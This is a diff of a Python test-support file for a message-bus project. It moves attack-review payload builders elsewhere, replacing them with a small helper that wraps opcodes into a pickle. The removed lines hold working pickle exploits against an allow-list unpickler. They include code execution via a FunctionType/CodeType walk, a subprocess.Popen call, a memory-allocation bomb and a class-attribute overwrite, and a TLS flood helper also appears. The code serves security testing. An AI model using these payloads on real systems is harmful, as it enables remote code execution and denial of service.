@@ -16,6 +16,7 @@ from typing import Any
 from aaabus import Agent, AgentId, Notification
 from aaabus.model.ids import FIRST_USER_STAMP
 from aaabus.model.notifications import AgentCreateRequest
+from tests.support.records import PROTO
 
 
 class Planted(Notification):
@@ -111,65 +112,10 @@ if __name__ == "__main__":
     print(tls_flood(host_arg, int(port_arg), float(seconds_arg)), flush=True)
 
 
-# -- payloads of the attack review (issue 30): each runs code or hurts its loader when
-# unpickled by the allow-list loader the bus had; each is bytes, built here opcode by opcode.
-
-_PROTO = b"\x80\x03"
+# -- the attack review's payloads (issue 30) as whole pickles, for the doors that take one: the
+# admin port's requests and a peer's frames (tests/support/records.py builds their opcodes).
 
 
-def _global(module: str, name: str) -> bytes:
-    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
-
-
-def _push(value: Any) -> bytes:
-    """The opcodes that push ``value`` (plain data) onto the unpickler's stack."""
-    body = pickle.dumps(value, 3)
-    return body[2:-1]  # without PROTO and STOP
-
-
-def walk_pickle(marker: str | os.PathLike[str]) -> bytes:
-    """Builds and calls a function of its own through a dotted walk from a trusted class:
-    ``PersistentMapping.__init__.__class__`` is ``FunctionType``, ``...__code__.__class__``
-    ``CodeType``; the function touches ``marker``."""
-    source = f"def f():\n    __import__('pathlib').Path({os.fspath(marker)!r}).touch()\n"
-    space: dict[str, Any] = {}
-    exec(source, space)
-    c = space["f"].__code__
-    args = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
-            c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
-            c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
-            c.co_exceptiontable, c.co_freevars, c.co_cellvars)  # fmt: skip
-    return (
-        _PROTO
-        + _global("persistent.mapping", "PersistentMapping.__init__.__class__")
-        + _global("persistent.mapping", "PersistentMapping.__init__.__code__.__class__")
-        + _push(args)
-        + b"R"  # CodeType(*args)
-        + b"}"  # globals: {}
-        + b"\x86R"  # FunctionType(code, {})
-        + b")R."  # ... called
-    )
-
-
-def module_walk_pickle(marker: str | os.PathLike[str]) -> bytes:
-    """``subprocess.Popen(["touch", marker])``, reached through a module of a trusted package
-    (``tests.support``) that happens to import subprocess (``tests.support.tls``)."""
-    command = _push((["touch", os.fspath(marker)],))
-    return _PROTO + _global("tests.support.tls", "subprocess.Popen") + command + b"R."
-
-
-def main_module_pickle() -> bytes:
-    """Names a global of ``aaabus.__main__``: importing that module runs the command line."""
-    return _PROTO + _global("aaabus.__main__", "main") + b"."
-
-
-def allocation_bomb(size: int = 2_000_000_000) -> bytes:
-    """``bytearray(size)``: a few dozen bytes that ask for ``size`` bytes of memory."""
-    return _PROTO + _global("builtins", "bytearray") + _push((size,)) + b"R."
-
-
-def class_build_pickle() -> bytes:
-    """BUILD on the class ``AgentId`` with state ``(None, {"parse": int})``: it rewrites the
-    class attribute ``AgentId.parse`` for the whole process."""
-    state = b"N}" + _push("parse") + _global("builtins", "int") + b"s\x86"
-    return _PROTO + _global("aaabus.model.ids", "AgentId") + state + b"b."
+def whole_pickle(opcodes: bytes) -> bytes:
+    """``opcodes`` (one value) as a pickle of its own."""
+    return PROTO + opcodes + b"."
